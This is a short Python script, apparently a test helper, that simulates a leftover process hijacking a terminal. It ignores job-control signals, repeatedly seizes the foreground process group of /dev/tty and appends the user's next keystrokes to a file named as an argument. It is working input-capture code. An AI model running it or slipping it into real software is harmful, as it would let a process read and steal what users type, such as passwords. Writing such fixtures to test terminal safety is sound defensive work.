# SPDX-License-Identifier: Apache-2.0
"""Left behind by an editor: takes the foreground of the terminal and reads what is typed next."""
import fcntl
import os
import select
import signal
import struct
import sys
import termios
import time

front, stolen = sys.argv[1:]
for s in (signal.SIGTTOU, signal.SIGTTIN, signal.SIGHUP):
    signal.signal(s, signal.SIG_IGN)
tty = os.open("/dev/tty", os.O_RDWR)
os.setpgid(0, 0)
end = time.monotonic() + 120
while time.monotonic() < end:
    try:
        fcntl.ioctl(tty, termios.TIOCSPGRP, struct.pack("i", os.getpgrp()))
        open(front, "w").close()
        if select.select([tty], [], [], 0.05)[0]:
            with open(stolen, "ab") as f:
                f.write(os.read(tty, 100))
            break
    except OSError:
        time.sleep(0.05)
